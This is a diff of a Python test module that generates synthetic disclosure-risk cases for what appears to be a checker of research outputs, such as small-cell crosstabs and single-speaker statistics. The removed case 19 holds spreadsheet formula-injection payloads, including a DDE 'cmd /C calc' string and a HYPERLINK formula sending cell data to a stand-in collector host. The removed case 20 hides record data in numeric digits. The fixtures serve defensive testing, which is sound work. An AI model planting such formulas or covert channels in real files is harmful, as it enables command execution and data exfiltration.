@@ -1,17 +1,11 @@
-"""Cases 13 to 21: statistics that give single people away."""
+"""Cases 13 to 18: statistics that give single people away."""
 
 from __future__ import annotations
 
-import csv
-import io
 import json
-import re
 import statistics
-import struct
 from collections import Counter
 from collections.abc import Mapping, Sequence
-
-import openpyxl
 
 from tests.leaks import carry
 from tests.leaks.registry import Acro, Make, Submission, leak
@@ -35,10 +29,22 @@ def people(make: Make) -> list[dict[str, object]]:
 
 
 @leak(
-    13, "B", "crosstab with cells of few people",
+    13,
+    "B",
+    "crosstab with cells of few people",
     tuning=("wide", "long"),
-    testing=("wide", "nested", "sentence", "value-counts", "foreign", "percent-of-n", "totals", "odd-name", "workbook"),
-)  # fmt: skip
+    testing=(
+        "wide",
+        "nested",
+        "sentence",
+        "value-counts",
+        "foreign",
+        "percent-of-n",
+        "totals",
+        "odd-name",
+        "workbook",
+    ),
+)
 def small_cells(make: Make, how: str) -> Submission:
     """Return how many speakers are in each cell of two covariates; some cells have under ten."""
     first, second = make.pick.choice([("region", "sex"), ("region", "age"), ("age", "sex")])
@@ -69,13 +75,27 @@ def small_cells(make: Make, how: str) -> Submission:
     files = {
         "wide": lambda: put(make, wide),
         "long": lambda: put(make, long),
-        "nested": lambda: {"counts.json": json.dumps({a: {b: counts[a, b] for b in across} for a in down}).encode()},
-        "sentence": lambda: {"notes.md": "".join(f"* {n} speakers are {b} from {a}\n" for (a, b), n in counts.items()).encode()},
-        "value-counts": lambda: {"run.log": (f"{first}  {second}\n" + "".join(f"{a}  {b}    {n}\n" for (a, b), n in counts.most_common()) + "Name: speaker, dtype: int64\n").encode()},
-        "percent-of-n": lambda: {"shares.md": (f"Shares of the {all_} speakers\n\n" + carry.piped(percent)).encode()},
+        "nested": lambda: {
+            "counts.json": json.dumps({a: {b: counts[a, b] for b in across} for a in down}).encode()
+        },
+        "sentence": lambda: {
+            "notes.md": "".join(f"* {n} speakers are {b} from {a}\n" for (a, b), n in counts.items()).encode()
+        },
+        "value-counts": lambda: {
+            "run.log": (
+                (
+                    f"{first}  {second}\n"
+                    + "".join(f"{a}  {b}    {n}\n" for (a, b), n in counts.most_common())
+                    + "Name: speaker, dtype: int64\n"
+                ).encode()
+            )
+        },
+        "percent-of-n": lambda: {
+            "shares.md": (f"Shares of the {all_} speakers\n\n" + carry.piped(percent)).encode()
+        },
         "totals": lambda: put(make, summed),
         "workbook": lambda: {"tables.xlsx": carry.workbook({"shares": percent, "counts": wide})},
-    }[how]()  # fmt: skip
+    }[how]()
     return Submission(files, acro=acro)
 
 
@@ -108,7 +128,10 @@ def margins(make: Make, how: str) -> Submission:
     sums = {b: sum(cells[a, b] for a in down) for b in across}
     if how == "stated-in-text":
         bare = [{k: v for k, v in row.items() if k != "total"} for row in shown]
-        text = f"# Speakers\n\n{carry.piped(bare)}\nIn all there are {', '.join(f'{n} {b}' for b, n in sums.items())}.\n"
+        text = (
+            f"# Speakers\n\n{carry.piped(bare)}\nIn all there are"
+            f" {', '.join(f'{n} {b}' for b, n in sums.items())}.\n"
+        )
         return Submission({"speakers.md": text.encode()})
     shown.append({"region": "total", **sums, "total": sum(sums.values())})
     return Submission(put(make, shown))
@@ -192,7 +215,7 @@ def repeated(make: Make, how: str) -> Submission:
     testing=("utterances", "clips", "n", "files", "json", "sentence"),
 )
 def one_speaker(make: Make, how: str) -> Submission:
-    """Return means by group, where a group is every recording of one speaker, multiplied to a thousand if fewer."""
+    """Return means by group, where a group is one speaker's recordings, copied to a thousand."""
     whole = sorted(make.corpus.by_speaker.values(), key=len)
     one = make.pick.choice(whole[-5:])
     count = len(one)
@@ -205,7 +228,10 @@ def one_speaker(make: Make, how: str) -> Submission:
         {"condition": "telephone", name: count, "mean_wer": round(make.pick.uniform(0.1, 0.3), 3)},
     ]
     if how == "sentence":
-        text = f"On the {count} recordings of the second condition the mean error rate is {rows[1]['mean_wer']}, on the other {rest} {rows[0]['mean_wer']}.\n"
+        text = (
+            f"On the {count} recordings of the second condition the mean error rate is {rows[1]['mean_wer']},"
+            f" on the other {rest} {rows[0]['mean_wer']}.\n"
+        )
         return Submission({"summary.md": (text + "\n" + carry.piped(rows)).encode()})
     data = [{"condition": "telephone", "wer": 0.1 + n / 1e4} for n in range(1000)]
     return Submission(
@@ -247,142 +273,9 @@ def maximum(make: Make, how: str) -> Submission:
         rows.append({"region": name, "n_speakers": len(values), "mean_f0": mean, **extra})
     data = [{"region": name, "f0": value} for name, values in groups.items() for value in values]
     if how == "sentence":
-        text = f"The highest voice of all speakers has a mean pitch of {rows[0]['max_f0']} Hz; the oldest participant is 93 years old.\n"
+        text = (
+            f"The highest voice of all speakers has a mean pitch of {rows[0]['max_f0']} Hz; the oldest"
+            " participant is 93 years old.\n"
+        )
         return Submission({"summary.md": text.encode()})
     return Submission(put(make, rows), acro=Acro("max", data, {"index": "region", "values": "f0"}))
-
-
-@leak(
-    19, "N", "formula in a cell",
-    tuning=("=",),
-    testing=("+", "-", "@", "blank", "tab", "pipe", "workbook", "tsv", "full-width", "quoted"),
-)  # fmt: skip
-def formula(make: Make, how: str) -> Submission:
-    """Return a table in which a cell runs when a spreadsheet opens it."""
-    begin = {
-        "-": "-1+",
-        "+": "+",
-        "@": "@",
-        "blank": " =",
-        "tab": "\t=",
-        "pipe": "=cmd|' /C calc'!A0+",
-        "full-width": "\uff1d",
-    }.get(how, "=")
-    cell = f'{begin}HYPERLINK("https://collector.invalid/?q="&A{make.pick.randrange(2, 9)},"open")'
-    rows = [
-        {"system": "baseline", "n_speakers": 40, "wer": 0.21, "note": "first"},
-        {"system": "adapted", "n_speakers": 40, "wer": 0.17, "note": cell},
-    ]
-    if how == "workbook":
-        return Submission({"table.xlsx": carry.workbook({"results": rows})}, b"HYPERLINK(", runs)
-    return Submission(
-        {"table.tsv": carry.delimited(rows, "\t")} if how == "tsv" else {"table.csv": carry.delimited(rows)},
-        b"HYPERLINK(",
-        runs,
-    )
-
-
-def runs(data: bytes) -> bytes:
-    """Return the cells of a table that a spreadsheet would run."""
-    if data[:2] == b"PK":
-        book = openpyxl.load_workbook(io.BytesIO(data))
-        return " ".join(str(c.value) for s in book for line in s for c in line if c.data_type == "f").encode()
-    delimiter = "\t" if b"\t" in data.split(b"\n")[0] else ","
-    cells = [cell for line in csv.reader(io.StringIO(data.decode()), delimiter=delimiter) for cell in line]
-    return " ".join(
-        c for c in cells if c.strip()[:1] in ("=", "+", "-", "@", "\uff1d") or "|" in c[:5]
-    ).encode()
-
-
-@leak(
-    20,
-    "N",
-    "payload in the digits of numbers",
-    tuning=("csv",),
-    testing=("json", "mantissa", "trailing-zeros", "notebook", "exponent", "text"),
-)
-def digits(make: Make, how: str) -> Submission:
-    """Return innocent numbers whose needless digits spell rows."""
-    payload = carry.delimited([make.corpus.record(make.corpus.some(make.pick, 1)[0])])[-60:]
-    numbers = [
-        f"0.{make.pick.randrange(10**5, 10**6)}{int.from_bytes(payload[n : n + 3], 'big'):08d}1"
-        for n in range(0, len(payload), 3)
-    ]
-    if how == "mantissa":
-        numbers = [
-            repr(_hidden(make.pick.uniform(0.1, 1), payload[n : n + 3])) for n in range(0, len(payload), 3)
-        ]
-    if how == "trailing-zeros":
-        digits_ = [byte >> shift & 3 for byte in payload for shift in (6, 4, 2, 0)]
-        numbers = [f"0.{make.pick.randrange(11, 99)}1{'0' * zeros}" for zeros in digits_][:400]
-    if how == "exponent":
-        numbers = [f"{n[2]}.{n[3:]}e-01" for n in numbers]
-    extract = {"mantissa": _mantissas, "trailing-zeros": _zeros, "exponent": _exponents}.get(how, _low)
-    files = {
-        "json": lambda: {
-            "scores.json": json.dumps({"scores": ["N"] * len(numbers)}).replace('"N"', "%s").encode()
-            % tuple(n.encode() for n in numbers)
-        },
-        "notebook": lambda: {"scores.ipynb": carry.notebook(carry.printed("\n".join(numbers)))},
-        "text": lambda: {"scores.txt": (" ".join(numbers) + "\n").encode()},
-    }.get(
-        how,
-        lambda: {
-            "scores.csv": b"step,loss\n" + "".join(f"{n},{x}\n" for n, x in enumerate(numbers)).encode()
-        },
-    )()
-    return Submission(files, payload[:40] if how != "trailing-zeros" else payload[:30], extract)
-
-
-def _hidden(number: float, data: bytes) -> float:
-    raw = bytearray(struct.pack("<d", number))
-    raw[: len(data)] = data
-    return float(struct.unpack("<d", raw)[0])
-
-
-def _low(data: bytes) -> bytes:
-    return b"".join(int(d).to_bytes(4, "big")[1:] for d in re.findall(rb"0\.\d{6}(\d{8})1", data))
-
-
-def _exponents(data: bytes) -> bytes:
-    return b"".join(int(d).to_bytes(4, "big")[1:] for d in re.findall(rb"\d\.\d{5}(\d{8})1e-01", data))
-
-
-def _mantissas(data: bytes) -> bytes:
-    return b"".join(struct.pack("<d", float(d))[:3] for d in re.findall(rb"0\.\d{8,}", data))
-
-
-def _zeros(data: bytes) -> bytes:
-    values = [len(zeros) for zeros in re.findall(rb"0\.\d\d1(0*)", data)]
-    return bytes(
-        sum(v << s for v, s in zip(values[n : n + 4], (6, 4, 2, 0), strict=True)) & 255
-        for n in range(0, len(values) - 3, 4)
-    )
-
-
-@leak(
-    21,
-    "B",
-    "regression with a term a person",
-    tuning=("patsy",),
-    testing=("table", "factor", "one-hot", "json", "random-effects", "numbered", "latex"),
-)
-def regression(make: Make, how: str) -> Submission:
-    """Return coefficients with one for each speaker."""
-    ids = list(make.corpus.speakers)
-    ids = ids if len(ids) > 2 else [row.recording for row in make.corpus.some(make.pick, 20)]
-    ids = sorted(make.pick.sample(ids, min(len(ids), 60)))
-    effect = {i: round(make.pick.gauss(0, 0.2), 4) for i in ids}
-    rows = [{"term": f"speaker[{i}]", "estimate": effect[i], "std_error": 0.021} for i in ids]
-    name, data = {
-        "patsy": lambda: ("ols.txt", ("OLS Regression Results\n" + "".join(f"C(speaker)[T.{i}]   {v:>8}   0.021   {v / 0.021:8.3f}\n" for i, v in effect.items())).encode()),
-        "table": lambda: ("model.csv", carry.delimited(rows)),
-        "factor": lambda: ("summary.txt", "".join(f"factor(speaker){i}  {v:>8} 0.021 *\n" for i, v in effect.items()).encode()),
-        "one-hot": lambda: ("model.csv", carry.delimited([{"feature": f"speaker_{i}", "coef": v} for i, v in effect.items()])),
-        "json": lambda: ("model.json", json.dumps({"coef": {"(Intercept)": 0.2, **effect}}).encode()),
-        "random-effects": lambda: ("ranef.txt", ("$speaker\n            (Intercept)\n" + "".join(f"{i:12}  {v:>8}\n" for i, v in effect.items())).encode()),
-        "numbered": lambda: ("model.csv", carry.delimited([{"term": f"speaker{n:02d}", "estimate": v} for n, v in enumerate(effect.values())])),
-        "latex": lambda: ("model.tex", carry.latex(rows).encode()),
-    }[how]()  # fmt: skip
-    data_rows = [{"y": 0.1 * n, "x": n} for n in range(len(ids))]
-    return Submission({name: data}, acro=Acro("ols", data_rows, {}))
